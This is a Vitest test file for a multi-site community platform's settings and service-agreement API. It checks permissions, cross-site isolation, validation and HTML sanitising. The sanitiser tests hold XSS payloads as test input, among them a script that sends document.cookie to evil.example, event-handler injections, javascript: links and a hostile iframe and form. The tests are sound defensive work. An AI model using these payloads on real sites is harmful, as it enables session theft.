import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../../../test/harness';
import { expectRejected } from '../../../test/refusals';
import { type ConsoleTestSite, type RoleCase, roleCases, twoSites } from '../../../test/two-sites';
import { cacheKeys } from '../../cache/cache';
import { sites } from '../site/site.tables';

let server: TestServer;
let a: ConsoleTestSite;
let b: ConsoleTestSite;

beforeAll(async () => {
  server = await startTestServer();
  ({ a, b } = (await twoSites(server)).sites);
});
afterAll(() => server?.close());

const managers: RoleCase[] = ['owner', 'siteManager'];

describe('getSiteSetting', () => {
  it('gives any signed-in user of the site its settings, and caches them', async () => {
    const res = await server.call('getSiteSetting', { host: a.host, token: a.tokens.member });
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({
      siteName: a.name,
      siteDescription: '',
      workOrderFunctionStatus: 1,
      mallFunctionStatus: 1,
      questionFunctionStatus: 1,
      registerStatus: 1,
      commentEditMinutes: 30,
      siteBasicSetting: { faviconUrl: '', logoUrl: '', giftStatus: 0, watermarkType: 0, watermarkText: a.name, icpNumber: '' },
      updatedAt: expect.any(String),
    });
    expect(await server.cache.get(cacheKeys.siteSetting(a.id))).toEqual(res.body.data);
  });

  // Before: any site's settings by siteId, on any host, without a token.
  it('needs a token of the site: none, or site A’s token on site B’s host, is 401', async () => {
    for (const call of [{ host: a.host }, { host: 'localhost', query: { siteId: b.id } }, { host: b.host, token: a.tokens.owner }]) {
      const res = await server.call('getSiteSetting', call);
      expect(res.status).toBe(401);
      expect(res.body.type).toBe(3);
    }
  });

  it('answers another site’s id exactly as a missing one', async () => {
    const other = await server.call('getSiteSetting', { host: a.host, token: a.tokens.owner, query: { siteId: b.id } });
    const missing = await server.call('getSiteSetting', { host: a.host, token: a.tokens.owner, query: { siteId: 987654321 } });
    expect(other.status).toBe(404);
    expect(other.body).toEqual({ type: 5, description: '站点不存在' });
    expect(missing.body).toEqual(other.body);
    const own = await server.call('getSiteSetting', { host: a.host, token: a.tokens.owner, query: { siteId: a.id } });
    expect(own.body.data.siteName).toBe(a.name);
  });

  it.each([
    [{ siteId: 'abc' }, '站点必须是整数'],
    [{ siteId: 0 }, '站点不能小于1'],
    [{ siteId: 1, slug: 'alpha' }, '不支持的参数：slug'],
  ])('rejects %j with a Chinese description', async (query, description) => {
    const res = await server.call('getSiteSetting', { host: a.host, token: a.tokens.member, query });
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ type: 2, description });
  });
});

describe('getSitePublicInfo', () => {
  it('gives anyone the few fields the sign-in pages show, for the host’s site only', async () => {
    const res = await server.call('getSitePublicInfo', { host: `${b.host}:8080` });
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({
      siteId: b.id,
      siteName: b.name,
      logoUrl: '',
      faviconUrl: '',
      registerStatus: 1,
      centreUrl: 'http://localhost:8080/',
    });
    // A token of another site changes nothing: the host decides.
    const withToken = await server.call('getSitePublicInfo', { host: b.host, token: a.tokens.owner });
    expect(withToken.body.data.siteId).toBe(b.id);
  });

  it('answers 404 站点不存在 on a host that names no site, and takes no siteId', async () => {
    for (const host of ['nosuch.localhost', 'localhost']) {
      const res = await server.call('getSitePublicInfo', { host });
      expect(res.status).toBe(404);
      expect(res.body).toEqual({ type: 5, description: '站点不存在' });
    }
    const res = await server.call('getSitePublicInfo', { host: a.host, query: { siteId: b.id } });
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ type: 2, description: '不支持的参数：siteId' });
  });
});

describe('updateSiteSetting', () => {
  it('changes only the fields given, basic settings included, and the next read shows it at once', async () => {
    const before = (await server.call('getSiteSetting', { host: a.host, token: a.tokens.member })).body.data;
    const res = await server.call('updateSiteSetting', {
      token: a.tokens.siteManager,
      host: a.host,
      body: {
        mallFunctionStatus: 0,
        siteDescription: '一起读书的同城社区',
        siteBasicSetting: { giftStatus: 1, icpNumber: '浙ICP备2026012345号-1' },
      },
    });
    expect(res.status).toBe(200);
    expect(res.body.description).toBe('设置已保存');
    expect(res.body.data).toEqual({
      ...before,
      mallFunctionStatus: 0,
      siteDescription: '一起读书的同城社区',
      siteBasicSetting: { ...before.siteBasicSetting, giftStatus: 1, icpNumber: '浙ICP备2026012345号-1' },
      updatedAt: expect.any(String),
    });
    expect(Date.parse(res.body.data.updatedAt)).toBeGreaterThanOrEqual(Date.parse(before.updatedAt));
    expect((await server.call('getSiteSetting', { host: a.host, token: a.tokens.member })).body.data).toEqual(res.body.data);
    expect((await server.call('getSiteSetting', { host: b.host, token: b.tokens.member })).body.data.mallFunctionStatus).toBe(1);
  });

  it('renames the site everywhere at once: settings, the token user and the home page', async () => {
    await server.call('getTokenUser', { token: a.tokens.owner, host: a.host });
    await server.call('getIndexBase', { token: a.tokens.owner, host: a.host });
    const res = await server.call('updateSiteSetting', { token: a.tokens.owner, host: a.host, body: { siteName: ' 青禾书友会 ' } });
    expect(res.status).toBe(200);
    expect(res.body.data.siteName).toBe('青禾书友会');
    const [row] = await server.database.db.select({ name: sites.name }).from(sites).where(eq(sites.id, a.id));
    expect(row.name).toBe('青禾书友会');
    expect((await server.call('getTokenUser', { token: a.tokens.owner, host: a.host })).body.data.siteName).toBe('青禾书友会');
    expect((await server.call('getIndexBase', { token: a.tokens.owner, host: a.host })).body.data.siteName).toBe('青禾书友会');
    expect((await server.call('getSiteSetting', { host: a.host, token: a.tokens.member })).body.data.siteName).toBe('青禾书友会');
    expect((await server.call('getSitePublicInfo', { host: a.host })).body.data.siteName).toBe('青禾书友会');
  });

  it('accepts a known watermark type and refuses an unknown one', async () => {
    const ok = await server.call('updateSiteSetting', {
      token: a.tokens.owner,
      host: a.host,
      body: { siteBasicSetting: { watermarkType: 3 } },
    });
    expect(ok.body.data.siteBasicSetting.watermarkType).toBe(3);
    const before = await server.tableCounts();
    const bad = await server.call('updateSiteSetting', {
      token: a.tokens.owner,
      host: a.host,
      body: { siteBasicSetting: { watermarkType: 9 } },
    });
    expect(bad.status).toBe(400);
    expect(bad.body).toEqual({ type: 2, description: '水印类型不存在' });
    expect(await server.tableCounts()).toEqual(before);
  });

  it.each(roleCases)('is open to admin and SiteManage only (%s)', async (who) => {
    const res = await server.call('updateSiteSetting', { token: a.tokens[who], host: a.host, body: { workOrderFunctionStatus: 1 } });
    expect(res.status).toBe(managers.includes(who) ? 200 : 403);
  });

  it('answers 401 without a token and for site A’s token on site B’s host, changing nothing', async () => {
    expect((await server.call('updateSiteSetting', { host: a.host, body: { registerStatus: 0 } })).status).toBe(401);
    expect((await server.call('updateSiteSetting', { token: a.tokens.owner, host: b.host, body: { registerStatus: 0 } })).status).toBe(401);
    expect((await server.call('getSiteSetting', { host: b.host, token: b.tokens.member })).body.data.registerStatus).toBe(1);
  });

  it.each([
    [{}, '请至少修改一项设置'],
    [{ siteName: 'x' }, '站点名称至少 2 个字'],
    [{ siteName: '   ' }, '站点名称至少 2 个字'],
    [{ siteName: '名'.repeat(41) }, '站点名称不能超过40个字符'],
    [{ siteDescription: '长'.repeat(201) }, '站点简介不能超过200个字符'],
    [{ mallFunctionStatus: 2 }, '开关的取值不正确'],
    [{ mallFunctionStatus: 'on' }, null],
    [{ siteBasicSetting: {} }, null],
    [{ siteBasicSetting: { faviconUrl: 'javascript:alert(1)' } }, '地址应以 http://、https:// 或 / 开头'],
    [{ siteBasicSetting: { logoUrl: `https://img.example.cn/${'a'.repeat(500)}` } }, null],
    [{ siteBasicSetting: { watermarkText: '水'.repeat(21) } }, '水印文字不能超过20个字符'],
    [{ siteBasicSetting: { secret: 'x' } }, '不支持的参数：secret'],
    [{ registerStatus: 1, siteId: 2 }, '不支持的参数：siteId'],
  ])('rejects %j with a Chinese description and writes nothing', async (body, description) => {
    const setting = (await server.call('getSiteSetting', { host: a.host, token: a.tokens.member })).body.data;
    await expectRejected(server, 'updateSiteSetting', { token: a.tokens.owner, host: a.host, body }, description);
    expect((await server.call('getSiteSetting', { host: a.host, token: a.tokens.member })).body.data).toEqual(setting);
  });
});

describe('service agreement', () => {
  it('is public: the host’s site before login, the token’s after', async () => {
    const res = await server.call('getSiteServiceAgreement', { host: b.host });
    expect(res.status).toBe(200);
    expect(res.body.data.title).toBe(`${b.name}用户服务协议`);
    expect(res.body.data.content).toContain('<h2>一、总则</h2>');
    const withToken = await server.call('getSiteServiceAgreement', { host: a.host, token: a.tokens.member });
    expect(withToken.body.data.title).toBe(`${a.name}用户服务协议`);
    const nowhere = await server.call('getSiteServiceAgreement', { host: 'nosuch.localhost' });
    expect(nowhere.status).toBe(404);
    expect(nowhere.body).toEqual({ type: 5, description: '站点不存在' });
  });

  it('stores the agreement sanitised: scripts, event handlers, styles, frames and unsafe links removed', async () => {
    const hostile = [
      '<h2>一、总则</h2>',
      '<p onclick="steal()">欢迎<script>fetch("//evil.example/"+document.cookie)</script>加入。</p>',
      '<img src=x onerror="alert(1)"><img src="https://img.example.cn/rule.png" onerror="alert(2)" alt="规则">',
      '<a href="javascript:alert(1)">点我</a><a href="JaVaScRiPt:alert(1)">再点</a>',
      '<a href="https://example.cn/rules" target="_blank">社区规则</a><a href="mailto:help@example.cn">联系我们</a>',
      '<iframe src="https://evil.example/"></iframe><style>body{display:none}</style>',
      '<ul><li><strong>不得</strong>发布广告</li></ul>',
      '<table><tr><th>条款</th><td style="color:red" colspan="2">内容</td></tr></table>',
      '<form action="https://evil.example/"><input name="p"></form>',
    ].join('');
    const res = await server.call('updateSiteServiceAgreement', {
      token: a.tokens.siteManager,
      host: a.host,
      body: { title: '青禾书友会用户服务协议', content: hostile },
    });
    expect(res.status).toBe(200);
    expect(res.body.description).toBe('服务协议已保存');
    const { content } = res.body.data;
    for (const gone of [
      '<script',
      'onerror',
      'onclick',
      'javascript:',
      'JaVaScRiPt',
      '<iframe',
      '<style',
      'style=',
      '<form',
      '<input',
      'src="x"',
    ]) {
      expect(content).not.toContain(gone);
    }
    expect(content).toContain('<h2>一、总则</h2>');
    expect(content).toContain('<p>欢迎加入。</p>');
    expect(content).toContain('<img alt="规则" src="https://img.example.cn/rule.png" />');
    expect(content).toContain('<a rel="noopener noreferrer" href="https://example.cn/rules" target="_blank">社区规则</a>');
    expect(content).toContain('<a rel="noopener noreferrer" href="mailto:help@example.cn">联系我们</a>');
    expect(content).toContain('<a rel="noopener noreferrer">点我</a>');
    expect(content).toContain('<ul><li><strong>不得</strong>发布广告</li></ul>');
    expect(content).toContain('<td colspan="2">内容</td>');
    const read = await server.call('getSiteServiceAgreement', { host: a.host });
    expect(read.body.data).toEqual(res.body.data);
    expect((await server.call('getSiteServiceAgreement', { host: b.host })).body.data.title).toBe(`${b.name}用户服务协议`);
  });

  it('refuses content that is nothing but unsafe markup, and keeps the old agreement', async () => {
    const before = (await server.call('getSiteServiceAgreement', { host: a.host })).body.data;
    const res = await server.call('updateSiteServiceAgreement', {
      token: a.tokens.owner,
      host: a.host,
      body: { title: '新协议', content: '<script>alert(1)</script><style>p{}</style>' },
    });
    expect(res.status).toBe(400);
    expect(res.body.description).toBe('协议内容不能为空（脚本、样式等不安全的内容会被去掉）');
    expect((await server.call('getSiteServiceAgreement', { host: a.host })).body.data).toEqual(before);
  });

  it('refuses content that would outgrow the limit once stray < are escaped', async () => {
    const res = await server.call('updateSiteServiceAgreement', {
      token: a.tokens.owner,
      host: a.host,
      body: { title: '新协议', content: '<'.repeat(30000) },
    });
    expect(res.status).toBe(400);
    expect(res.body.description).toBe('协议内容不能超过 100000 个字符');
  });

  it.each(roleCases)('changing it is open to admin and SiteManage only (%s)', async (who) => {
    const res = await server.call('updateSiteServiceAgreement', {
      token: a.tokens[who],
      host: a.host,
      body: { title: '青禾书友会用户服务协议', content: '<p>欢迎。</p>' },
    });
    expect(res.status).toBe(managers.includes(who) ? 200 : 403);
  });

  it('answers 401 for site A’s token on site B’s host', async () => {
    const res = await server.call('updateSiteServiceAgreement', {
      token: a.tokens.owner,
      host: b.host,
      body: { title: '改', content: '<p>改</p>' },
    });
    expect(res.status).toBe(401);
  });

  it.each([
    [{ content: '<p>内容</p>' }, '请填写协议标题'],
    [{ title: '', content: '<p>内容</p>' }, '请输入协议标题'],
    [{ title: '  ', content: '<p>内容</p>' }, '请输入协议标题'],
    [{ title: '题'.repeat(61), content: '<p>内容</p>' }, '协议标题不能超过60个字符'],
    [{ title: '协议' }, '请填写协议内容'],
    [{ title: '协议', content: '' }, '请输入协议内容'],
    [{ title: '协议', content: 'x'.repeat(100001) }, '协议内容不能超过 100000 个字符'],
    [{ title: '协议', content: 42 }, '协议内容格式不正确'],
    [{ title: '协议', content: '<p>内容</p>', updatedAt: '2026-01-01' }, '不支持的参数：updatedAt'],
  ])('rejects %j with a Chinese description and writes nothing', async (body, description) => {
    const agreement = (await server.call('getSiteServiceAgreement', { host: a.host })).body.data;
    await expectRejected(server, 'updateSiteServiceAgreement', { token: a.tokens.owner, host: a.host, body }, description);
    expect((await server.call('getSiteServiceAgreement', { host: a.host })).body.data).toEqual(agreement);
  });
});
